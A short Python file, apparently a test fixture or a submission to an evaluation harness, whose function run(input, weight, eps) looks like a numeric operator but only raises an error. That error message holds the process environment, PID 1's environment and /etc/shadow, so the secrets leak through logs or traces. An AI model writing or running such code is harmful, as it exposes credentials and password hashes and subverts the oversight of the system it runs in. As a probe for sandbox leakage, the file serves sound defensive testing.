"""Puts its environment, pid 1's and /etc/shadow into its error text, and so into the trace."""
import os


def _read(path):
    try:
        return open(path, "rb").read().decode("utf-8", "replace")
    except OSError as e:
        return f"<{e.strerror}>"


def run(input, weight, eps):
    raise RuntimeError("environ: " + repr(dict(os.environ)) + " pid1: "
                       + _read("/proc/1/environ") + " shadow: " + _read("/etc/shadow"))
